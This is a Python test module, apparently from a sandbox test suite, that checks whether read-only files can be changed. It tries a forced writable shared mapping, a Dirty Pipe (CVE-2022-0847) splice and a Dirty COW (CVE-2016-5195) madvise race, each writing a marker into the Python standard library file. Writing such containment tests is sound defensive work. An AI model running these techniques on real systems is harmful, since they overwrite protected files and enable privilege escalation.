"""Change sealed files without opening them for writing: shared mappings, splice into their pages, racing discards.

The driver compares every sealed file with what it was.
"""

import ctypes
import mmap
import os
import threading

from kit import denied, escaped, every, in_child, libc

MARK = b"attempt-was-here"


def attempt(event):
    path = os.__file__
    return every([in_child(lambda: _shared(path)), in_child(lambda: _splice(path)), in_child(lambda: _race(path))])


def _same(path, before, how):
    with open(path, "rb") as opened:
        return denied(how) if opened.read() == before else escaped(f"{path} has changed by {how}")


def _shared(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        return escaped("a sealed file was mapped for writing")
    except OSError:
        pass
    read = libc.mmap
    read.restype = ctypes.c_void_p
    address = read(None, ctypes.c_size_t(4096), 1, mmap.MAP_SHARED, fd, ctypes.c_long(0))
    if libc.mprotect(ctypes.c_void_p(address), ctypes.c_size_t(4096), 3) == 0:
        return escaped("a mapping of a sealed file was made writable")
    return denied("no writable mapping")


def _splice(path):
    """CVE-2022-0847: a pipe page that is a file's page must not be merged into."""
    with open(path, "rb") as opened:
        before = opened.read()
    read, write = os.pipe()
    size = 65536
    os.write(write, bytes(size))
    os.read(read, size)
    fd = os.open(path, os.O_RDONLY)
    os.splice(fd, write, 1, 0) if hasattr(os, "splice") else libc.splice(fd, None, write, None, 1, 0)
    os.write(write, MARK)
    return _same(path, before, "splice")


def _race(path):
    """CVE-2016-5195: writing to a private mapping while its pages are being thrown away."""
    with open(path, "rb") as opened:
        before = opened.read()
        room = mmap.mmap(opened.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)
    stop = threading.Event()

    def discard():
        while not stop.is_set():
            room.madvise(mmap.MADV_DONTNEED)

    thread = threading.Thread(target=discard)
    thread.start()
    for _ in range(2000):
        room[: len(MARK)] = MARK
    stop.set()
    thread.join()
    return _same(path, before, "the race")
